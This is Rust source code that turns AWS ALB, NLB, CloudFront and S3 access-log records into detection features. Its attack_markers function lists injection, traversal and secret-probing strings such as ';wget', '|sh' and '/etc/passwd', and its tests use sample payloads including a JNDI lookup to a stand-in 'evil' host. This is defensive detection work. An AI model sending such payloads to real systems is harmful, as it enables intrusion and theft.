//! HTTP access logs: ALB and classic ELB (AWSALBAccessLogs), NLB (AWSNLBAccessLogs),
//! CloudFront (AWSCloudFront_CL) and S3 server access logs (AWSS3ServerAccess).

use super::common::{self, contains_ci, log_scale, number, text};
use super::{F, Slots};
use crate::record::{LogType, Record};

/// What every access log says about one request, under its own column names.
#[derive(Default)]
struct Request<'r> {
    status: Option<i64>,
    method: Option<&'r str>,
    /// Path and query as sent.
    uri: Option<&'r str>,
    client: Option<&'r str>,
    latency_ms: Option<f64>,
    bytes: Option<f64>,
    target_failed: bool,
    object_write: bool,
    error_code: Option<&'r str>,
}

pub fn extract(r: &Record, s: &mut Slots<'_>) {
    let req = match r.log_type {
        LogType::CloudFront => cloudfront(r),
        LogType::S3Access => s3_access(r),
        LogType::Nlb => nlb(r),
        _ => alb(r),
    };
    if let Some(status) = req.status {
        let class = status / 100;
        s.flag(F::Http4xx, class == 4);
        s.flag(F::Http5xx, class == 5);
        s.flag(F::Failure, class >= 4);
        s.flag(F::Denied, matches!(status, 401 | 403 | 407));
        s.flag(F::ServerError, class == 5);
        s.flag(F::Throttled, matches!(status, 429 | 503));
    }
    if req.error_code.is_some_and(|e| e == "AccessDenied") {
        s.set(F::Denied, 1.0);
        s.set(F::Failure, 1.0);
    }
    if req.error_code.is_some_and(|e| e == "SlowDown") {
        s.set(F::Throttled, 1.0);
    }
    if let Some(m) = req.method {
        s.flag(
            F::HttpUnsafeMethod,
            matches!(m, "POST" | "PUT" | "DELETE" | "PATCH"),
        );
    }
    if let Some(uri) = req.uri {
        s.set(F::HttpAttackMarkers, attack_markers(uri));
        s.set(F::HttpUriLength, log_scale(uri.len() as f64, 8192.0));
        s.set(F::Size, log_scale(uri.len() as f64, 64.0 * 1024.0));
    }
    if let Some(ms) = req.latency_ms {
        // A minute is the ALB idle timeout: anything near it is as slow as it gets.
        s.set(F::Latency, log_scale(ms, 60_000.0));
    }
    if let Some(b) = req.bytes {
        s.set(F::Bytes, log_scale(b, 1e10));
    }
    s.flag(F::HttpTargetFailure, req.target_failed);
    s.flag(F::HttpObjectWrite, req.object_write);
    s.flag(
        F::SourcePublic,
        req.client
            .is_some_and(|c| common::classify_address(c).is_public()),
    );
}

fn seconds_to_ms(r: &Record, column: &str) -> Option<f64> {
    // -1 means the load balancer never got that far (the target failed to answer).
    number(r, column).filter(|v| *v >= 0.0).map(|v| v * 1000.0)
}

fn alb(r: &Record) -> Request<'_> {
    let (method, uri) = text(r, "RequestRaw").map_or((None, None), split_request_line);
    let latency: f64 = [
        "RequestProcessingTime",
        "TargetProcessingTime",
        "ResponseProcessingTime",
    ]
    .iter()
    .filter_map(|c| seconds_to_ms(r, c))
    .sum();
    let target_status = text(r, "TargetStatusCode");
    let target_failed = number(r, "TargetProcessingTime").is_some_and(|v| v < 0.0)
        || text(r, "LambdaErrorReason").is_some()
        || (target_status.is_none() && number(r, "ElbStatusCode").is_some_and(|s| s >= 500.0));
    Request {
        status: number(r, "ElbStatusCode").map(|s| s as i64),
        method,
        uri,
        client: text(r, "ClientIp"),
        latency_ms: Some(latency),
        bytes: number(r, "SentBytes"),
        target_failed,
        object_write: false,
        error_code: None,
    }
}

fn nlb(r: &Record) -> Request<'_> {
    let client = text(r, "ClientIPPort").map(|c| c.rsplit_once(':').map_or(c, |(ip, _)| ip));
    let latency = number(r, "ConnectionTime").filter(|v| *v >= 0.0);
    Request {
        client,
        latency_ms: latency,
        bytes: number(r, "SentBytes"),
        target_failed: text(r, "IncomingTLSAlert").is_some(),
        ..Request::default()
    }
}

fn cloudfront(r: &Record) -> Request<'_> {
    let edge_error = text(r, "EdgeResultType").is_some_and(|t| t == "Error");
    Request {
        status: number(r, "ScStatus").map(|s| s as i64),
        method: text(r, "CsMethod"),
        uri: text(r, "CsUriStem"),
        client: text(r, "ClientIp"),
        latency_ms: number(r, "TimeTaken").map(|s| s * 1000.0),
        bytes: number(r, "ScBytes"),
        target_failed: edge_error && number(r, "ScStatus").is_some_and(|s| s >= 500.0),
        object_write: false,
        error_code: None,
    }
    .with_query(text(r, "CsUriQuery"))
}

impl<'r> Request<'r> {
    /// CloudFront logs the query apart from the path; injection markers live in either.
    fn with_query(mut self, query: Option<&'r str>) -> Self {
        if let Some(q) = query
            && attack_markers(q) > self.uri.map_or(0.0, attack_markers)
        {
            self.uri = Some(q);
        }
        self
    }
}

fn s3_access(r: &Record) -> Request<'_> {
    let operation = text(r, "Operation").unwrap_or("");
    let (method, uri) = text(r, "RequestUri").map_or((None, None), split_request_line);
    let object_write = operation.starts_with("REST.PUT")
        || operation.starts_with("REST.DELETE")
        || operation.starts_with("REST.POST")
        || operation.starts_with("REST.COPY");
    Request {
        status: number(r, "HttpStatus").map(|s| s as i64),
        method,
        uri,
        client: text(r, "RemoteIp"),
        latency_ms: number(r, "TotalTime"),
        bytes: number(r, "BytesSent"),
        target_failed: false,
        object_write,
        error_code: text(r, "ErrorCode"),
    }
}

/// `GET https://host:443/path?q HTTP/1.1` -> (`GET`, `/path?q`-ish text).
fn split_request_line(line: &str) -> (Option<&str>, Option<&str>) {
    let line = line.trim_matches('"');
    let mut parts = line.splitn(3, ' ');
    let method = parts.next().filter(|m| !m.is_empty() && *m != "-");
    let uri = parts.next().filter(|u| !u.is_empty());
    (method, uri)
}

/// Share of injection, traversal and probing markers found, in `0..=1`. Each marker class
/// counts once; three or more classes saturate.
pub fn attack_markers(uri: &str) -> f32 {
    const CLASSES: &[&[&str]] = &[
        // Path traversal.
        &["../", "..%2f", "%2e%2e", "..\\", "%252e%252e"],
        // SQL injection.
        &[
            "union select",
            "union%20select",
            "union+select",
            "' or '1'='1",
            "%27%20or%20",
            "or 1=1",
            "or%201=1",
            "sleep(",
            "information_schema",
            "benchmark(",
        ],
        // Script injection.
        &[
            "<script",
            "%3cscript",
            "javascript:",
            "onerror=",
            "onload=",
            "alert(",
        ],
        // Command and template injection.
        &[
            "$(",
            "%24%28",
            ";wget",
            ";curl",
            "|sh",
            "${jndi",
            "%24%7bjndi",
            "{{",
            "/bin/sh",
            "cmd.exe",
        ],
        // Probing for secrets and admin surfaces.
        &[
            "/.env",
            "/.git/",
            "/wp-admin",
            "/wp-login",
            "/phpmyadmin",
            "/etc/passwd",
            "/.aws/",
            "/actuator",
            "/cgi-bin/",
            "/server-status",
        ],
    ];
    let hits = CLASSES
        .iter()
        .filter(|markers| markers.iter().any(|m| contains_ci(uri, m)))
        .count();
    (hits as f32 / 3.0).min(1.0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markers() {
        assert_eq!(attack_markers("/index.html?page=2"), 0.0);
        assert!(attack_markers("/../../etc/passwd") > 0.5);
        assert!(attack_markers("/search?q=1%27%20or%20%271%27=%271") > 0.0);
        assert!(attack_markers("/x?u=${jndi:ldap://evil/a}") > 0.0);
    }

    #[test]
    fn request_line() {
        assert_eq!(
            split_request_line("GET https://a.example.com:443/x?y=1 HTTP/1.1"),
            (Some("GET"), Some("https://a.example.com:443/x?y=1"))
        );
        assert_eq!(split_request_line("- - -"), (None, Some("-")));
    }
}
